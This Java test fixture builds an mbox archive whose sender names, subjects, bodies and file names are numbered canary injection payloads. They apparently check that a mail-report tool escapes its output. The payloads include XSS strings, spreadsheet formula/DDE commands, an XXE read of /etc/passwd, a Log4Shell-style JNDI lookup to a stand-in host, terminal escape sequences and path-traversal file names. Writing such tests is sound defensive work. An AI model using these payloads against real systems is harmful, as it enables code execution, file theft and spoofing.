package org.colloquy.report.cli;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.stream.IntStream;

/**
 * A folder of mail that attacks whoever opens what the command makes of it. The mails are a thread,
 * so that its writers answer, quote, agree and object: their names come into every table, chart and
 * graph. Each attack holds the word CANARY and its number.
 */
final class CanaryArchive {

  /** Names of senders, given as they stand in an encoded word. */
  private static final List<String> NAMES =
      List.of(
          "<script>alert('CANARY-0')</script>",
          "=HYPERLINK(\"http://example.com/?CANARY-1\",\"x\")",
          "+cmd|' /C calc'!CANARY-2",
          "\u202eyranaC CANARY-3\u2066",
          "\uFF1D1+CANARY-4",
          "\"]; URL=\"javascript:CANARY-5\"; x=[label=\"",
          "]]><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;CANARY-6",
          "@SUM(CANARY-7)\u001b[2J\u009b31m\b\r");

  /** Subjects, given as they stand in an encoded word. */
  private static final List<String> SUBJECTS =
      List.of(
          "</title><script>CANARY-8</script>",
          "-2+3+CANARY-9",
          "\t=1+CANARY-10",
          "\r\n=1+CANARY-11",
          "\u001b]0;CANARY-12\u0007\u001b]52;c;eA==\u0007",
          "\u009b31mCANARY-13 \u009d0;x\u009c",
          "rm -rf\b\b\b\b\b\bCANARY-14\rharmless",
          "\u202egpj.exe CANARY-15\u202c\u2067\u200f",
          "${jndi:ldap://example.com/CANARY-16} %s%n #{7*7} {{7*7}} @if(true)",
          "'\"><img src=x onerror=alert(CANARY-17)>",
          "</script><svg/onload=CANARY-18>",
          "a\",\"=1+1\",\"CANARY-19",
          "\u2028CANARY-20\u2029\"]);alert(1);//");

  /** Lines of bodies; each stands in a mail that agrees or objects in the same line. */
  private static final List<String> LINES =
      List.of(
          "<iframe src=javascript:CANARY-21></iframe>",
          "=cmd|' /C calc'!CANARY-22",
          "\u001b[2J\u001b]8;;file:///etc/passwd\u001b\\CANARY-23\b\b",
          "\u202eCANARY-24\u2069 \u009b8m",
          "javascript:alert(CANARY-25) <a href=\"data:text/html,x\">",
          "<base href=\"//example.com/\"><meta http-equiv=refresh content=\"0;url=//example.com\">");

  /** Names of the files of the archive. */
  private static final List<String> FILES =
      List.of(
          "<img src=x onerror=CANARY-26>.mbox", "=1+CANARY-27.mbox", "\u001b[2JCANARY-28\n.mbox");

  /** The number of attacks that hold a number. */
  static final int COUNT = 29;

  private static final int MAILS = 39;

  private CanaryArchive() {}

  /** Writes the archive into a folder, which is made. */
  static void write(Path folder) throws IOException {
    Files.createDirectories(folder);
    for (int file = 0; file < FILES.size(); file++) {
      StringBuilder mbox = new StringBuilder();
      for (int mail = file; mail < MAILS; mail += FILES.size()) {
        mbox.append(mail(mail));
      }
      Files.writeString(folder.resolve(FILES.get(file)), mbox);
    }
  }

  /** Writes annotated mail whose annotation attacks, too: a detector finds none of it. */
  static Path gold(Path file) throws IOException {
    return Files.writeString(
        file,
        """
        {"message_id": "<1\\u001b[2J@example.org>", "list": "\\u202eCANARY\\u009b8m", "from":\
         "\\u001b]0;CANARY\\u0007 <a@example.org>", "date": "Mon, 1 Jan 2024 10:00:00 +0000",\
         "subject": "x", "body": "I agree \\u001b[2J\\u202e with that.\\n", "positions": []}
        """);
  }

  private static String mail(int n) {
    String answered =
        n == 0
            ? ""
            : """
              In-Reply-To: <%s>
              """
                .formatted(id(n - 1));
    return """
        From x@example.org Mon Jan  1 10:00:00 2024
        From: %s <=CANARY%d@example.org>
        To: %s <"../../tmp/CANARY"@example.org>
        Subject: %s
        Date: Mon, %02d Jan 2024 %02d:00:00 +0000
        Message-ID: <%s>
        %sList-Id: "</script><script>CANARY</script>" <../../../../tmp/CANARY-LIST>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary=b

        --b
        Content-Type: text/plain; charset=utf-8

        %s
        --b
        Content-Type: text/x-patch
        Content-Disposition: attachment; filename="../../../../tmp/CANARY-FILE"

        <script>CANARY</script>
        --b--

        """
        .formatted(
            word(NAMES.get(n % NAMES.size())),
            n % NAMES.size(),
            word(NAMES.get((n + 1) % NAMES.size())),
            word(SUBJECTS.get(n % SUBJECTS.size())),
            1 + n / 24,
            n % 24,
            id(n),
            answered,
            body(n));
  }

  private static String id(int n) {
    return n == 0 ? "\"><script>CANARY</script>@example.org" : "=" + n + "+1|CANARY@example.org";
  }

  private static String body(int n) {
    String line = LINES.get(n % LINES.size());
    String quoted =
        n == 0
            ? ""
            : "On Monday, %s wrote:\n> %s I agree with that.\n> I object to that, %s.\n\n"
                .formatted(
                    NAMES.get((n - 1) % NAMES.size()).replaceAll("[\r\n]", " "),
                    LINES.get((n - 1) % LINES.size()),
                    LINES.get((n - 1) % LINES.size()));
    return quoted
        + "%s I agree with that.\nI object to that, %s.\nI leave that to %s.\n"
            .formatted(line, line, NAMES.get((n + 2) % NAMES.size()).replaceAll("[\r\n]", " "))
        + "\nAcked-by: "
        + NAMES.get((n + 3) % NAMES.size()).replaceAll("[\r\n]", " ")
        + " <x@example.org>\n";
  }

  /**
   * An encoded word (RFC 2047) for each character, folded: nothing of it means anything to mail.
   */
  private static String word(String text) {
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    StringBuilder word = new StringBuilder("=?utf-8?Q?");
    IntStream.range(0, bytes.length)
        .forEach(i -> word.append(String.format(Locale.ROOT, "=%02X", bytes[i] & 0xff)));
    return word.append("?=").toString();
  }
}
